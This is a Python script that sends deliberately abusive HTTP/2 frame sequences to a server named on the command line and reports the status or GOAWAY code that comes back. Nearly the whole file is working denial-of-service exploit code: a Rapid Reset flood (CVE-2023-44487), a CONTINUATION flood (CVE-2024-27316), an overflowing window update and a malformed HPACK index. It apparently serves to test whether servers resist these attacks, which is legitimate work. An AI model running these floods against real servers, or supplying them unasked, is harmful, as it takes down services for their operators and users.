#!/usr/bin/env python3
"""HTTP/2 as attackers speak it, by `hpack` and `hyperframe`: URL KIND. Prints the answer's status, or the code of the
GOAWAY (RFC 9113 §7) that ends the connection; proxy from https_proxy, roots from SSL_CERT_FILE."""

import select
import sys
import urllib.parse

import hpack
import hyperframe.frame as frames

from websocket_h2 import connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

#: What is sent at once, and how long is waited for an answer in between.
PIECE = 8192
PAUSE = 0.1


def head(stream, block, *flags):
    return frames.HeadersFrame(stream, block, flags=["END_STREAM", *flags]).serialize()


def attack(url, kind):
    """What is sent: one request, and with it what nobody has a use for."""
    encoder = hpack.Encoder()
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", url.netloc), (":path", url.path or "/")]
    if kind == "reset":
        # CVE-2023-44487.
        reset = b""
        for stream in range(1, 4001, 2):
            reset += head(stream, encoder.encode(fields), "END_HEADERS")
            reset += frames.RstStreamFrame(stream, error_code=8).serialize()
        return reset
    block = encoder.encode(fields)
    match kind:
        case "nothing":
            return head(1, block, "END_HEADERS")
        case "continuation":
            # CVE-2024-27316.
            more = frames.ContinuationFrame(1, encoder.encode([("x", "y" * 8000)])).serialize()
            return head(1, block) + more * 1000
        case "window":
            return frames.WindowUpdateFrame(0, window_increment=2**31 - 1).serialize()
        case "table":
            return head(1, b"\xff\x80\x01", "END_HEADERS")
    sys.exit(f"{kind} is no attack")


def main(url, kind):
    url = urllib.parse.urlsplit(url)
    secure = connect(url)
    left = memoryview(PREFACE + frames.SettingsFrame(0).serialize() + attack(url, kind))
    received, decoder = b"", hpack.Decoder()
    secure.settimeout(30)
    while True:
        # A little at a time: what is sent to a connection that has ended makes the kernel forget what came of it.
        while left and not (secure.pending() or select.select([secure], [], [], PAUSE)[0]):
            secure.sendall(left[:PIECE])
            left = left[PIECE:]
        data = secure.recv(65536) or sys.exit("the connection ended without a word")
        received += data
        while len(received) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(received[:9]))
            if len(received) < 9 + length:
                break
            frame.parse_body(memoryview(received[9 : 9 + length]))
            received = received[9 + length :]
            match frame:
                case frames.GoAwayFrame():
                    print("goaway", frame.error_code)
                    return
                case frames.HeadersFrame() if kind == "nothing":
                    print("status", dict(decoder.decode(frame.data))[":status"])
                    return


main(*sys.argv[1:])
